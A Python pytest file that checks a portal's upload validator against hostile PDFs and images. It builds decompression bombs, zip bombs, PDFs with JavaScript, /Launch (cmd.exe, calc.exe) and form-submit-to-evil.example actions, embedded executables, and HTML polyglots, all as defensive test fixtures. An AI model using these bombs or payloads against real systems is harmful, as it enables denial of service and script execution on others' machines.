"""Hostile uploads: truncated and malformed PDFs, PDFs that would run scripts, bombs of every kind,
images that lie about their size, polyglots and renamed files. Each gets the outcome a producer
would see (accepted, or refused with a reason), quickly and in bounded memory, never a crash; then
hypothesis mutates real files to look for what these miss (FUZZ_EXAMPLES of them, 150 by default;
`make soak` runs many more)."""

from __future__ import annotations

import io
import os
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from functools import cache

import pypdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from infra.bench.fuzz import (
    KINDS,
    fpdf_pdf,
    hostile_files,
    image_bytes,
    judged,
    pdf_from_objects,
    pdf_with_object_stream,
)
from portal import uploads
from portal.uploads import MAX_BYTES, MAX_PIXELS, sandbox
from portal.uploads import pdf as pdf_check

FUZZ_EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "150"))
OK = "ok"
UNREADABLE, ACTIVE, ENCRYPTED = "upload.pdf_unreadable", "upload.pdf_active_content", "upload.pdf_encrypted"
BAD_IMAGE, NOT_ALLOWED, NOT_PDF = "upload.image_unreadable", "upload.not_allowed_type", "upload.not_pdf"
# "Within a few seconds": every hostile case here (on a busy machine), the child's limit beyond.
FEW_SECONDS = 5.0
needs_fork = pytest.mark.skipif(not hasattr(os, "fork"), reason="the check's child process needs fork")


def outcome(data: bytes, kind: str = "evidence") -> str:
    """What the producer sees: "ok" or the reason; the fuzz property holds on the way."""
    verdict = judged(data, kind)
    return OK if verdict.ok else str(verdict.reason)


def timed_outcome(data: bytes, kind: str = "evidence") -> str:
    started = time.perf_counter()
    result = outcome(data, kind)
    took = time.perf_counter() - started
    assert took < FEW_SECONDS, f"{took:.1f} s"
    return result


# A minimal PDF: 1 catalog, 2 page tree, 3 page, then any further objects (4, 5, …).
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s>>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"


def pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return pdf_from_objects([CATALOG % catalog, PAGES, PAGE % page, *more])


def nested(opening: bytes, closing: bytes, depth: int) -> bytes:
    return opening * depth + b"0" + closing * depth


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


@cache
def zeros_deflated(size: int) -> bytes:
    """`size` (whole MiB) zero bytes as a zlib stream of about a thousandth of that, built in
    milliseconds: after a full flush, each further MiB of zeros compresses to the same bytes."""
    compressor, block = zlib.compressobj(9), b"\0" * (1 << 20)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler32 = ((size % 65521) << 16) | 1  # of `size` zeros
    return first + again * ((size >> 20) - 1) + b"\x03\x00" + struct.pack(">I", adler32)


def test_the_bomb_is_real():
    bomb, decompressor = zeros_deflated(64 << 20), zlib.decompressobj()
    assert decompressor.decompress(bomb) == b"\0" * (64 << 20)
    assert decompressor.eof
    assert len(bomb) < 70_000


def with_stream_data(data: bytes, kind: bytes, replacement: bytes) -> bytes:
    """`data` with the stream of the first `/Type <kind>` object holding `replacement` instead."""
    found = re.search(rb"/Type %s [^>]*/Length (\d+) >>\nstream\n" % kind, data)
    assert found
    start, end = found.end(), found.end() + int(found[1])
    length = b"%d" % len(replacement)
    return data[: found.start(1)] + length + data[found.end(1) : start] + replacement + data[end:]


def free(data: bytes, number: int) -> bytes:
    """`data` with object `number` marked free in its cross-reference table (still in the file)."""
    entries = data.index(b"\n", data.index(b"xref\n") + 5) + 1  # after "xref", "0 <size>"
    kind = entries + number * 20 + 17  # each entry is "oooooooooo ggggg n \n"
    assert data[kind : kind + 1] == b"n"
    return data[:kind] + b"f" + data[kind + 1 :]


JS = b"<< /S /JavaScript /JS (app.alert('pwned')) >>"
REAL = fpdf_pdf(2, images=True, links=True, outline=True)
OBJECT_STREAM = pdf_with_object_stream({3: PAGE % b""}, {1: CATALOG % b"", 2: PAGES})


# --- Ordinary PDFs stay accepted ---------------------------------------------------------------


def incremental_update(data: bytes) -> bytes:
    """`data` signed or edited as viewers do: pypdf appends an update (its own xref and %%EOF)."""
    writer = PdfWriter(io.BytesIO(data), incremental=True)
    writer.add_metadata({"/Title": "Revidert rapport"})
    out = io.BytesIO()
    writer.write(out)
    updated = out.getvalue()
    assert updated.startswith(data)
    assert updated.count(b"%%EOF") == data.count(b"%%EOF") + 1
    return updated


def ordinary_pdfs() -> list[object]:
    out = io.BytesIO()
    PdfWriter(clone_from=PdfReader(io.BytesIO(REAL))).write(out)
    plain_link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://etiskhandel.no/JavaScript) >> >>]"
    return [
        pytest.param(fpdf_pdf(1), 1, id="fpdf2 text"),
        pytest.param(REAL, 2, id="fpdf2 with photos, links and bookmarks"),
        pytest.param(fpdf_pdf(40, images=True, links=True), 40, id="fpdf2, 40 pages"),
        pytest.param(out.getvalue(), 2, id="rewritten by pypdf"),
        pytest.param(pdf(page=plain_link), 1, id="a link whose address names /JavaScript"),
        pytest.param(pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), 1, id="opens at page 1"),
        pytest.param(
            pdf(b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"), 1, id="additional action that is a GoTo"
        ),
        pytest.param(pdf(b"/Info (about /JS and /Launch) "), 1, id="the names inside a string"),
        pytest.param(
            pdf(b"", b"/Contents 4 0 R", stream(b"/JS gs BT (/JavaScript /Launch) Tj ET")),
            1,
            id="the names in page content",
        ),
        pytest.param(pdf(b"% /JavaScript in a comment\n"), 1, id="a name in a comment"),
        pytest.param(
            pdf_with_object_stream({3: PAGE % b""}, {1: CATALOG % b"", 2: PAGES}),
            1,
            id="objects in a compressed object stream",
        ),
        pytest.param(REAL + b"\r\n\x00\x00  \n", 2, id="line ends and padding after %%EOF"),
        pytest.param(incremental_update(REAL), 2, id="an incremental update: two %%EOF"),
        pytest.param(pdf(b"/X (<script>alert(1)</script>) "), 1, id="HTML in a string"),
    ]


@pytest.mark.parametrize(("data", "pages"), ordinary_pdfs())
def test_ordinary_pdfs_are_accepted(data, pages):
    verdict = judged(data, "audit_report")
    assert (verdict.ok, verdict.reason, verdict.pages) == (True, None, pages)


# --- Broken PDFs -------------------------------------------------------------------------------

END = REAL.rindex(b"%%EOF") + len(b"%%EOF")
CUTS = sorted(
    {
        0,
        1,
        4,
        5,
        6,
        9,
        20,
        *range(0, len(REAL), len(REAL) // 37),
        *(END - n for n in (1, 2, 5, 6, 40, 200)),
        END,
        END + 1,
    }
)


def truncated_outcome(cut: int) -> str:
    if cut == 0:
        return "upload.empty"
    if cut < len(b"%PDF-"):
        return NOT_PDF
    return OK if cut >= END else UNREADABLE


@pytest.mark.parametrize("cut", CUTS)
def test_a_truncated_pdf_is_unreadable(cut):
    assert timed_outcome(REAL[:cut], "audit_report") == truncated_outcome(cut)


@pytest.mark.parametrize("cut", CUTS[6::4])
def test_a_truncated_pdf_given_a_new_end_marker_is_repaired_or_unreadable(cut):
    # pypdf rebuilds a lost cross-reference table as viewers do: what it recovers is accepted as it
    # would be shown (with at least one page), otherwise the file is unreadable.
    assert timed_outcome(REAL[:cut] + b"\n%%EOF\n", "audit_report") in {OK, UNREADABLE}


def broken_pdfs() -> list[object]:
    garbage = bytes(range(256)) * 40
    zip_file = io.BytesIO()
    with zipfile.ZipFile(zip_file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.pdf", REAL)
    forged_zip = b"%PDF-" + zip_file.getvalue()[5:]
    return [
        pytest.param(REAL.replace(b"%%EOF", b"%%EOX"), id="no %%EOF"),
        pytest.param(b"%PDF-1.7\n" + garbage + b"\n%%EOF\n", id="header, garbage, %%EOF"),
        pytest.param(b"%PDF-1.7\n%%EOF\n", id="header and %%EOF only"),
        pytest.param(pdf(b"/X " + nested(b"[", b"]", 100_000)), id="arrays nested 100,000 deep"),
        pytest.param(pdf(b"/X " + nested(b"[", b"]", 500)), id="arrays nested 500 deep"),
        pytest.param(
            pdf_from_objects([CATALOG % b"", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
            id="page tree of itself",
        ),
        pytest.param(
            pdf_from_objects(
                [
                    CATALOG % b"",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
                ]
            ),
            id="page tree cycle",
        ),
        pytest.param(pdf_from_objects([b"1 0 R", PAGES, PAGE % b""]), id="catalog is a reference to itself"),
        pytest.param(
            pdf_from_objects([CATALOG % b"", b"<< /Type /Pages /Kids [] /Count 1000000000 >>"]),
            id="no pages, /Count 10^9",
        ),
        pytest.param(forged_zip, id="zip with %PDF- forged, no %%EOF"),
        pytest.param(forged_zip + b"\n%%EOF\n", id="zip with %PDF- forged and %%EOF"),
        pytest.param(
            pdf_with_object_stream(
                {3: PAGE % b""}, {1: CATALOG % b"", 2: PAGES}, packed_data=zeros_deflated(1 << 30)
            ),
            id="catalog in a 1 GB Flate bomb",
        ),
        pytest.param(
            re.sub(
                rb"/Type /ObjStm (.*?)/Length \d+", rb"/Type /ObjStm \1/Length 999999999999", OBJECT_STREAM
            ),
            id="catalog in a stream whose /Length is 10^12",
        ),
        pytest.param(
            with_stream_data(OBJECT_STREAM, b"/XRef", zeros_deflated(1 << 30)),
            id="cross-reference stream: a 1 GB Flate bomb",
        ),
    ]


@pytest.mark.parametrize("data", broken_pdfs())
def test_a_broken_or_hostile_pdf_is_unreadable(data):
    assert timed_outcome(data, "audit_report") == UNREADABLE


def test_a_pdf_whose_cross_reference_table_points_nowhere_is_repaired():
    data = re.sub(rb"\d{10} 00000 n", b"0000999999 00000 n", pdf())
    data = re.sub(rb"startxref\n\d+", b"startxref\n123456789", data)
    verdict = judged(data, "audit_report")
    assert (verdict.ok, verdict.pages) == (True, 1)  # as viewers do, pypdf finds the objects


def lies() -> list[object]:
    bomb = zeros_deflated(1 << 30)
    return [
        pytest.param(
            pdf_from_objects(
                [CATALOG % b"", b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", PAGE % b""]
            ),
            id="/Count 10^9",
        ),
        pytest.param(
            pdf(b"/Me 1 0 R /OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"),
            id="self references",
        ),
        pytest.param(
            pdf(
                b"/Outlines 4 0 R",
                b"",
                b"<< /First 5 0 R >>",
                b"<< /Title (a) /Parent 4 0 R /Next 5 0 R /First 5 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            ),
            id="bookmark loop",
        ),
        pytest.param(
            pdf(b"", b"/Contents 4 0 R", b"<< /Length 999999999999 >>\nstream\nBT ET\nendstream"),
            id="/Length 10^12",
        ),
        pytest.param(
            pdf(b"", b"/Contents 4 0 R", stream(bomb, b"/Filter /FlateDecode")),
            id="page content: 1 GB Flate bomb",
        ),
        pytest.param(
            pdf(
                b"",
                b"/Resources << /XObject << /I 4 0 R >> >>",
                stream(
                    bomb,
                    b"/Type /XObject /Subtype /Image /Width 32768 /Height 32768 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
                ),
            ),
            id="image: 1 GB Flate bomb",
        ),
        pytest.param(pdf(b"/X " + nested(b"<< /A ", b" >>", 10_000)), id="dictionaries nested 10,000 deep"),
        pytest.param(pdf(b"/X " + nested(b"<< /A [", b"] >>", 10_000)), id="dictionaries and arrays"),
        pytest.param(
            pdf(b"/Metadata 4 0 R", b"", stream(bomb, b"/Type /Metadata /Subtype /XML /Filter /FlateDecode")),
            id="metadata: Flate bomb",
        ),
    ]


@pytest.mark.parametrize("data", lies())
def test_lies_loops_and_junk_that_change_nothing_are_accepted(data):
    # The pages are counted, not believed; what we never decode cannot explode; an entry pypdf
    # cannot parse (the nested dictionaries) is dropped, as viewers do, and the rest read.
    verdict = judged(data, "audit_report")
    assert (verdict.ok, verdict.pages) == (True, 1)


def test_a_flate_bomb_in_an_object_stream_stays_within_pypdfs_limits():
    # Inline (no child process), so tracemalloc sees every allocation the parse makes.
    data = pdf_with_object_stream(
        {3: PAGE % b""}, {1: CATALOG % b"", 2: PAGES}, packed_data=zeros_deflated(1 << 30)
    )
    tracemalloc.start()
    try:
        started = time.perf_counter()
        answer = pdf_check.read_pdf(io.BytesIO(data))
        took = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert answer == (UNREADABLE, None)
    assert peak < 100 * 1024 * 1024, f"{peak / 2**20:.0f} MiB"  # 32 MiB decoded, and a copy
    assert took < FEW_SECONDS


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            pdf(b"/X " + nested(b"<< /A ", b" >>", 1_000_000)), id="dictionaries nested 1,000,000 deep"
        ),
        pytest.param(pdf(b"/X <" + b"4A53" * (2 << 20) + b">"), id="an 8 MB hex string"),
    ],
)
@needs_fork
def test_a_parse_that_overruns_is_stopped_and_refused(monkeypatch, data):
    # pypdf takes many seconds over each of these (about 0.4 s a MB of hex string: a minute for 25 MB);
    # past its limit the child is killed and the file refused.
    monkeypatch.setattr(sandbox, "CHECK_SECONDS", 0.3)
    started = time.perf_counter()
    assert outcome(data, "audit_report") == UNREADABLE
    assert time.perf_counter() - started < 0.3 * sandbox.CHECK_WALL_FACTOR + 1


@needs_fork
def test_a_child_that_dies_means_unreadable(monkeypatch):
    monkeypatch.setattr(pdf_check, "read_pdf", lambda copy: os._exit(3))
    assert outcome(pdf(), "audit_report") == UNREADABLE


def test_an_encrypted_pdf_is_refused_as_encrypted_even_with_scripts():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(REAL)))
    writer.add_open_action(JavaScript("app.alert('pwned');"))
    writer.encrypt(user_password="", owner_password="the auditor", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert outcome(out.getvalue(), "audit_report") == ENCRYPTED


# --- Active content ----------------------------------------------------------------------------


def pypdf_made() -> list[object]:
    def written(change) -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(REAL)))
        change(writer)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    def xfa_form(writer: PdfWriter) -> None:
        form = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
        )
        writer.root_object[NameObject("/AcroForm")] = form

    script = JavaScript("app.alert('pwned');")
    return [
        pytest.param(written(lambda writer: writer.add_open_action(script)), id="pypdf add_open_action"),
        pytest.param(
            written(lambda writer: writer.pages[1].add_action(PageTrigger("open"), script)),
            id="pypdf page open action",
        ),
        pytest.param(
            written(lambda writer: writer.add_attachment("payload.exe", b"MZ")), id="pypdf attachment"
        ),
        pytest.param(written(xfa_form), id="pypdf XFA form"),
    ]


def hand_made_active() -> list[object]:
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (ok) /Rect [0 0 9 9] /P 3 0 R %s>>"
    return [
        pytest.param(pdf(b"/OpenAction " + JS), id="/OpenAction JavaScript"),
        pytest.param(pdf(b"/OpenAction 4 0 R", b"", JS), id="/OpenAction to a JavaScript object"),
        pytest.param(pdf(b"/AA << /WC " + JS + b" >>"), id="document /AA"),
        pytest.param(pdf(b"", b"/AA << /O " + JS + b" >>"), id="page /AA"),
        pytest.param(
            pdf(b"/Names << /JavaScript 4 0 R >>", b"", b"<< /Names [(x) 5 0 R] >>", JS),
            id="/Names /JavaScript",
        ),
        pytest.param(
            pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), id="hex escapes /J#61vaScript"
        ),
        pytest.param(
            pdf(
                b"/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /JS 4 0 R >>",
                b"",
                stream(b"app.alert(1)"),
            ),
            id="every character escaped",
        ),
        pytest.param(
            pdf(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> "
                + JS
                + b"] >>"
            ),
            id="JavaScript down a /Next chain",
        ),
        pytest.param(
            pdf(
                b"",
                b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]",
            ),
            id="link that launches",
        ),
        pytest.param(
            pdf(
                b"",
                b"/Annots [4 0 R]",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /Win << /F (calc.exe) >> >> >>",
            ),
            id="/Launch /Win",
        ),
        pytest.param(
            pdf(
                b"",
                b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JavaScript:alert(1)) >> >>]",
            ),
            id="javascript: link",
        ),
        pytest.param(pdf(b"", b"/Annots [4 0 R]", widget % (b"/AA << /K " + JS + b" >>")), id="widget /AA"),
        pytest.param(
            pdf(
                b"/AcroForm << /Fields [4 0 R] >>",
                b"",
                b"<< /T (f) /Kids [5 0 R] >>",
                b"<< /Parent 4 0 R /A " + JS + b" >>",
            ),
            id="form field kid",
        ),
        pytest.param(
            pdf(b"", b"/Annots [4 0 R]", widget % b"/A << /S /SubmitForm /F (https://evil.example) >>"),
            id="form that submits",
        ),
        pytest.param(pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", stream(b"<xdp:xdp/>")), id="XFA"),
        pytest.param(
            pdf(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                b"",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                stream(b"MZ", b"/Type /EmbeddedFile"),
            ),
            id="/EmbeddedFiles",
        ),
        pytest.param(
            pdf(
                b"",
                b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]",
                b"<< /Type /Filespec /F (a.exe) >>",
            ),
            id="file attachment annotation",
        ),
        pytest.param(
            pdf(
                b"/Outlines 4 0 R",
                b"",
                b"<< /First 5 0 R >>",
                b"<< /Title (a) /Parent 4 0 R /A " + JS + b" >>",
            ),
            id="bookmark action",
        ),
        pytest.param(pdf(b"", b"", JS), id="unreferenced JavaScript object (raw scan)"),
        pytest.param(free(pdf(b"", b"", JS), 4), id="object marked free in the xref (raw scan)"),
        pytest.param(
            pdf_with_object_stream({3: PAGE % b""}, {1: CATALOG % b"/OpenAction 4 0 R ", 2: PAGES, 4: JS}),
            id="JavaScript in a compressed object stream",
        ),
        pytest.param(
            pdf(b"/X " + nested(b"<< /A ", b" >>", 10_000) + b" /OpenAction 4 0 R", b"", JS),
            id="behind 10,000 nested dictionaries, which pypdf drops with what follows (raw scan)",
        ),
        pytest.param(
            pdf_with_object_stream(
                {3: PAGE % b""},
                {
                    1: CATALOG % (b"/X " + nested(b"<< /A ", b" >>", 10_000) + b" /OpenAction 4 0 R "),
                    2: PAGES,
                    4: JS,
                },
            ),
            id="the same in an object stream (raw scan of decoded object streams)",
        ),
        pytest.param(
            pdf_with_object_stream(
                {3: PAGE % b"/AA << /O 4 0 R >>"},
                {1: CATALOG % b"", 2: PAGES, 4: b"<< /S /J#61vaScript /JS (x) >>"},
            ),
            id="escaped, in an object stream",
        ),
    ]


@pytest.mark.parametrize("data", [*hand_made_active(), *pypdf_made()])
def test_a_pdf_with_active_content_is_refused(data):
    for kind in KINDS:
        assert timed_outcome(data, kind) == ACTIVE


@pytest.mark.parametrize("data", [case for case in hand_made_active() if "raw scan" not in str(case.id)])
def test_the_parsed_walk_alone_finds_what_a_viewer_would_run(data):
    # Each net holds on its own: the walk over the document as pypdf reads it, without the raw scan.
    with pypdf.apply_configuration(**pdf_check._PDF_LIMITS):
        assert pdf_check._has_active_content(PdfReader(io.BytesIO(data)))


def test_the_raw_scan_reads_names_as_a_viewer_does():
    scan = pdf_check._raw_active_content
    assert scan(b"<< /S /JavaScript >>")
    assert scan(b"<</S/J#61v#61Script/JS(x)>>")
    assert scan(b"<< /Type /EmbeddedFile >>")
    assert scan(b"[/XFA]")
    assert not scan(b"<< /S /JavaScripts /JSON 1 /Launcher 2 >>")  # other names
    assert not scan(b"(a string with /JavaScript and \\) /Launch)")
    assert not scan(b"(nested (parentheses /JS) still a string /Launch)")
    assert not scan(b"<2F4A53> % a comment /JavaScript\n")
    assert not scan(b"<< /Length 9 >>\nstream\n/Launch /JS\nendstream")
    assert scan(b"(a string) /Launch")
    assert scan(b"<< /Length 9 >>\nstream\nxxx\nendstream /JS")
    assert scan(b"<< /Length 9 >>\nstream\nxxx\nendstream /J#53")


def test_the_raw_scan_gives_up_on_the_pathological(monkeypatch):
    monkeypatch.setattr(pdf_check, "_RAW_STEPS", 1000)  # each "()" is 3 steps
    assert not pdf_check._raw_active_content(b"()" * 300 + b"(/JS)")
    assert pdf_check._raw_active_content(b"()" * 400 + b"(/JS)")  # past the step limit, names anywhere count
    with pytest.raises(pdf_check._TooComplexError):  # thousands of names written to hide
        pdf_check._raw_active_content(b"/#4A" * 10_001)


# --- Files that are not what they say ----------------------------------------------------------


@cache
def zip_of_zeros() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.bin", b"\0" * (16 << 20))
    return out.getvalue()


def nested_zip_bomb(levels: int = 3, width: int = 8) -> bytes:
    """42.zip in small: zips of zips of zeros."""
    layer = zip_of_zeros()
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(f"{number}.zip", layer)
        layer = out.getvalue()
    return layer


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(zip_of_zeros(), id="zip of zeros"),
        pytest.param(nested_zip_bomb(), id="nested zip bomb"),
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', id="SVG"),
        pytest.param(b"<!DOCTYPE html><html><script>alert(1)</script></html>", id="HTML"),
        pytest.param(b"GIF89a" + image_bytes("PNG"), id="GIF header, PNG inside"),
    ],
)
def test_what_is_not_a_pdf_jpeg_or_png_is_refused_for_its_type(data):
    assert outcome(data, "evidence") == NOT_ALLOWED
    assert outcome(data, "audit_report") == NOT_PDF


def jpeg_with_comment(text: bytes) -> bytes:
    """A JPEG with a COM segment (0xFFFE) right after SOI."""
    data = image_bytes("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]


def jpeg_with_thumbnail() -> bytes:
    """A camera-style JPEG: a whole JPEG (with its own EOI) inside the APP1 EXIF segment."""
    thumbnail = image_bytes("JPEG", (16, 12))
    exif = Image.Exif()
    exif[0x010E] = "Nødutgang, skjæreavdelingen"  # ImageDescription
    out = io.BytesIO()
    Image.open(io.BytesIO(image_bytes("JPEG", (64, 48)))).save(out, "JPEG", exif=exif.tobytes() + thumbnail)
    data = out.getvalue()
    assert data.count(b"\xff\xd9") >= 2
    return data


# --- Polyglots: one file that is two -----------------------------------------------------------
HTML = b"<html><body><script>fetch('/api/v1/session').then(r => r.text()).then(alert)</script></body></html>"
POLYGLOT = "upload.polyglot"


@pytest.mark.parametrize(
    ("data", "kinds"),
    [
        pytest.param(REAL + HTML, KINDS, id="PDF, then HTML"),
        pytest.param(REAL + b"\n\n" + HTML + b"\n", KINDS, id="PDF, line ends, then HTML"),
        pytest.param(incremental_update(REAL) + HTML, KINDS, id="PDF with an update, then HTML"),
        pytest.param(REAL + b"%" + HTML, KINDS, id="PDF, then HTML behind a comment sign"),
        pytest.param(REAL + b"PK\x05\x06" + b"\0" * 18, KINDS, id="PDF, then a ZIP directory"),
        pytest.param(REAL + image_bytes("PNG"), KINDS, id="PDF, then a PNG"),
        pytest.param(HTML + b"\n" + REAL, KINDS, id="HTML, then PDF (viewers find %PDF- in 1 KB)"),
        pytest.param(b"\xef\xbb\xbf%PDF-1.7\n" + REAL[9:], KINDS, id="PDF behind a byte-order mark"),
        pytest.param(image_bytes("JPEG") + REAL, ("evidence",), id="JPEG, then a PDF"),
        pytest.param(image_bytes("JPEG") + HTML, ("evidence",), id="JPEG, then HTML"),
        pytest.param(image_bytes("PNG") + HTML, ("evidence",), id="PNG, then HTML"),
        pytest.param(image_bytes("PNG") + REAL, ("evidence",), id="PNG, then a PDF"),
        pytest.param(
            jpeg_with_comment(b"%PDF-1.7\n" + b"1 0 obj"), ("evidence",), id="JPEG, PDF header in a comment"
        ),
    ],
)
def test_a_file_that_is_also_another_file_is_refused_as_a_polyglot(data, kinds):
    for kind in kinds:
        assert timed_outcome(data, kind) == POLYGLOT, kind


def test_a_pdf_with_another_pdf_appended_is_read_as_its_update():
    # Appending a whole PDF with its own %%EOF is an incremental update: the file is read as a viewer
    # reads it, so the appended part's script is found.
    hostile = pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    assert outcome(REAL + hostile, "audit_report") == ACTIVE


def test_the_end_of_a_pdf_is_found_across_read_chunks():
    # The %%EOF marker split between two reads, then HTML: still content after the end.
    data = REAL + HTML
    at = data.rindex(b"%%EOF") + 2
    chunks = iter([data[:at], data[at:]])

    class TwoReads(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            return next(chunks, b"")

    assert uploads.check(TwoReads(), len(data), "audit_report").reason == POLYGLOT  # type: ignore[arg-type]


# --- Images ------------------------------------------------------------------------------------


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header declaring `width` × `height` grey pixels, and a kilobyte of them."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    data = bytearray(image_bytes("JPEG", (16, 16)))
    start = data.index(b"\xff\xc0")
    data[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def grey_png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (width, height)).save(out, format="PNG", compress_level=1)
    return out.getvalue()


def progressive_jpeg_with_scans(repeats: int, side: int) -> bytes:
    """A progressive JPEG with its last scan repeated: each repeat decodes the whole image again."""
    out = io.BytesIO()
    Image.new("L", (side, side)).save(out, format="JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * repeats + b"\xff\xd9"


def with_bad_crc(data: bytes, chunk: bytes) -> bytes:
    at = data.index(chunk) + 4 + struct.unpack(">I", data[data.index(chunk) - 4 : data.index(chunk)])[0]
    return data[:at] + bytes(b ^ 0xFF for b in data[at : at + 4]) + data[at + 4 :]


SIDE = int(MAX_PIXELS**0.5)  # 7071: 7071 × 7071 is just under the limit, 7071 × 7072 just over


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        pytest.param(png_declaring(100_000, 100_000), BAD_IMAGE, id="PNG declaring 10 gigapixels"),
        pytest.param(png_declaring(2**31 - 1, 1), BAD_IMAGE, id="PNG declaring 2^31 columns"),
        pytest.param(jpeg_declaring(65_000, 65_000), BAD_IMAGE, id="JPEG declaring 4 gigapixels"),
        pytest.param(grey_png(SIDE, SIDE), OK, id="just under MAX_PIXELS"),
        pytest.param(grey_png(SIDE, SIDE + 1), BAD_IMAGE, id="just over MAX_PIXELS"),
        pytest.param(progressive_jpeg_with_scans(500, 2000), BAD_IMAGE, id="JPEG with 500 repeated scans"),
        pytest.param(progressive_jpeg_with_scans(3, 2000), OK, id="JPEG with a few more scans"),
        pytest.param(image_bytes("JPEG", progressive=True), OK, id="progressive JPEG"),
        pytest.param(with_bad_crc(image_bytes("PNG"), b"IHDR"), BAD_IMAGE, id="PNG header with a wrong CRC"),
        pytest.param(with_bad_crc(image_bytes("PNG"), b"IDAT"), BAD_IMAGE, id="PNG data with a wrong CRC"),
        pytest.param(image_bytes("JPEG") + b"\x00" * 64, OK, id="JPEG padded after EOI"),
        pytest.param(image_bytes("PNG") + b"\n", OK, id="PNG with a line end after IEND"),
        pytest.param(jpeg_with_comment(b"\xff\xd9<html>"), OK, id="JPEG with an EOI inside a comment"),
        pytest.param(jpeg_with_thumbnail(), OK, id="JPEG with an EXIF thumbnail"),
        pytest.param(image_bytes("PNG")[:-12], BAD_IMAGE, id="PNG without IEND"),
        pytest.param(image_bytes("JPEG")[:-2], BAD_IMAGE, id="JPEG without EOI"),
    ],
)
def test_hostile_images(data, expected):
    assert timed_outcome(data, "evidence") == expected


@pytest.mark.parametrize("format_", ["PNG", "JPEG"])
def test_a_truncated_image_is_unreadable_wherever_it_is_cut(format_):
    data = image_bytes(format_, (300, 200))
    magic = 8 if format_ == "PNG" else 3
    for cut in [0, 1, magic, magic + 1, *range(magic, len(data) - 2, len(data) // 23)]:
        expected = "upload.empty" if cut == 0 else NOT_ALLOWED if cut < magic else BAD_IMAGE
        assert outcome(data[:cut]) == expected, cut


# --- Sizes -------------------------------------------------------------------------------------


def test_empty_mismatched_and_one_byte_too_many():
    assert outcome(b"") == "upload.empty"
    data = fpdf_pdf(1)
    assert uploads.check(io.BytesIO(data), len(data) + 1, "audit_report").reason == "upload.size_mismatch"
    assert uploads.check(io.BytesIO(data), len(data) - 1, "audit_report").reason == "upload.size_mismatch"
